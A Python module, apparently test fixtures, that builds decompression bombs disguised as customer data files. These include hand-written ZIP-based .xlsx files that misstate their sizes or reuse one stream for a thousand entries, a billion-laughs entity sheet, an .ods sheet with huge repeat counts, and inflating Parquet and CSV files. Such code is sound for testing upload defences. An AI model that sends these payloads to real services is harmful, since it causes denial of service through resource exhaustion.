"""Small files that want to become large ones, made here byte by byte: each is named for its trick."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

MEGABYTE = 2**20
TYPES = (
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" '
    b'ContentType="application/xml"/><Default Extension="rels" '
    b'ContentType="application/vnd.openxmlformats-package.relationships+xml"/></Types>'
)
RELATIONS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s"/></Relationships>'
)
MAIN = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
BOOK = (
    b'<workbook xmlns="%s" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
    b'<sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>' % MAIN
)
ROW = b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>customer id</t></is></c></row>'


def bombs() -> dict[str, Callable[[Path], str]]:
    """Name → what writes the bomb and returns the name the file is sent under."""
    return {
        "a sheet of two gigabytes of blanks": lambda path: _workbook(path, _blanks(2100)),
        "a sheet that says it is small and is not": lambda path: _lying(path, _blanks(1500)),
        "a sheet with one cell in the last corner": lambda path: _workbook(path, _packed(_corner())),
        "a sheet of a million columns by entity": lambda path: _workbook(path, _packed(_laughs())),
        "a thousand sheets over one stream": lambda path: _overlapping(path),
        "a table of a billion equal rows": lambda path: _equal_rows(path, rows=200_000_000),
        "a table whose one long text stands everywhere": lambda path: _long_text(path),
        "a table of twenty thousand columns": lambda path: _wide(path),
        "a line that never ends": lambda path: _written(path, b"customer_id,order_id\n" + b"x" * (200 * MEGABYTE)),
        "quotation marks and nothing else": lambda path: _written(path, b"customer_id,date\n" + b'"' * (30 * MEGABYTE)),
        "a hundred thousand columns": lambda path: _written(
            path, b",".join(b"c%d" % n for n in range(100_000)) + b"\n1\n"
        ),
        "a document of repeated rows": lambda path: _document(path),
    }


def _written(path: Path, content: bytes) -> str:
    path.write_bytes(content)
    return "orders.csv"


Stream = tuple[bytes, int, int]
"""Raw deflate bytes, what they unpack to, and its checksum."""


def _packed(content: bytes) -> Stream:
    press = zlib.compressobj(9, zlib.DEFLATED, -15)
    return press.compress(content) + press.flush(), len(content), zlib.crc32(content)


def _blanks(megabytes: int) -> Stream:
    """One pressed megabyte of blanks between the tags, repeated: a flushed block may stand any number of times."""
    head, tail = b'<worksheet xmlns="%s"><sheetData>' % MAIN + ROW % (1, 1), b"</sheetData></worksheet>"
    press = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = press.compress(head) + press.flush(zlib.Z_FULL_FLUSH)
    blank = b" " * MEGABYTE
    block = press.compress(blank) + press.flush(zlib.Z_FULL_FLUSH)
    end = press.compress(tail) + press.flush()
    checksum = zlib.crc32(head)
    for _ in range(megabytes):
        checksum = zlib.crc32(blank, checksum)
    size = len(head) + megabytes * MEGABYTE + len(tail)
    return start + block * megabytes + end, size, zlib.crc32(tail, checksum)


def _corner() -> bytes:
    cells = ROW % (1, 1) + b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return b'<worksheet xmlns="%s"><sheetData>' % MAIN + cells + b"</sheetData></worksheet>"


def _laughs() -> bytes:
    entities = [b'<!ENTITY a0 "ha">', *(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 11))]
    cell = b'<row r="1"><c r="A1" t="inlineStr"><is><t>&a10;</t></is></c></row>'
    document = b'<?xml version="1.0"?><!DOCTYPE worksheet [' + b"".join(entities) + b']><worksheet xmlns="%s">' % MAIN
    return document + b"<sheetData>" + cell + b"</sheetData></worksheet>"


def _plain_members() -> list[tuple[str, bytes]]:
    relation = (
        RELATIONS % (b"officeDocument", b"xl/workbook.xml"),
        RELATIONS % (b"worksheet", b"worksheets/sheet1.xml"),
    )
    return [
        ("[Content_Types].xml", TYPES),
        ("_rels/.rels", relation[0]),
        ("xl/workbook.xml", BOOK),
        ("xl/_rels/workbook.xml.rels", relation[1]),
    ]


def _workbook(path: Path, sheet: Stream, *, said: int | None = None, copies: int = 0) -> str:
    """A ZIP written by hand, since no library writes a stream that is already pressed. `said`: the size it claims."""
    members = [(name.encode(), *_packed(content)) for name, content in _plain_members()]
    members.append((b"xl/worksheets/sheet1.xml", sheet[0], sheet[1], sheet[2]))
    body, directory = io.BytesIO(), b""
    for name, pressed, size, checksum in members:
        told = said if said is not None and pressed is sheet[0] else size
        fields = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, checksum, len(pressed), told, len(name), 0)
        where = body.tell()
        body.write(b"PK\x03\x04" + fields + name + pressed)
        directory += b"PK\x01\x02\x14\x00" + fields + struct.pack("<HHHII", 0, 0, 0, 0, where) + name
    for number in range(copies):
        name = b"xl/worksheets/copy%d.xml" % number
        fields = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, sheet[2], len(sheet[0]), sheet[1], len(name), 0)
        directory += b"PK\x01\x02\x14\x00" + fields + struct.pack("<HHHII", 0, 0, 0, 0, where) + name
    count, start = len(members) + copies, body.tell()
    end = struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), start, 0)
    path.write_bytes(body.getvalue() + directory + b"PK\x05\x06" + end)
    return "orders.xlsx"


def _lying(path: Path, sheet: Stream) -> str:
    return _workbook(path, sheet, said=5000)


def _overlapping(path: Path) -> str:
    return _workbook(path, _blanks(90), copies=1000)


def _document(path: Path) -> str:
    cells = '<table:table-cell office:value-type="string" table:number-columns-repeated="16384"><text:p>x</text:p>'
    row = f'<table:table-row table:number-rows-repeated="1048576">{cells}</table:table-cell></table:table-row>'
    spaces = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "table", "text")
    )
    content = (
        f"<office:document-content {spaces}><office:body><office:spreadsheet>"
        f'<table:table table:name="S">{row}</table:table></office:spreadsheet></office:body></office:document-content>'
    )
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry '
        'manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
        "</manifest:manifest>"
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
        archive.writestr("META-INF/manifest.xml", manifest)
        archive.writestr("content.xml", content)
    return "orders.ods"


def _equal_rows(path: Path, *, rows: int) -> str:
    """Run-length encoding: the same customer, product and day, however often."""
    batch = 10_000_000
    columns = {"customer_id": "C-1", "order_id": "O-1", "date": "2026-01-01", "sku": "S", "quantity": "1"}
    one = {
        name: pa.DictionaryArray.from_arrays(pa.repeat(pa.scalar(0, pa.int8()), batch), pa.array([value]))
        for name, value in columns.items()
    }
    table = pa.table(one)
    with pq.ParquetWriter(path, table.schema, compression="zstd") as writer:
        for _ in range(rows // batch):
            writer.write_table(table, row_group_size=batch)
    return "orders.parquet"


def _long_text(path: Path) -> str:
    long = pa.DictionaryArray.from_arrays(pa.repeat(pa.scalar(0, pa.int8()), 100_000), pa.array(["x" * 32 * MEGABYTE]))
    ids = pa.array([f"C-{number}" for number in range(100_000)])
    pq.write_table(pa.table({"customer_id": ids, "name": long}), path, compression="zstd", row_group_size=100_000)
    return "customers.parquet"


def _wide(path: Path) -> str:
    pq.write_table(pa.table({f"c{number}": pa.array([1]) for number in range(20_000)}), path)
    return "orders.parquet"
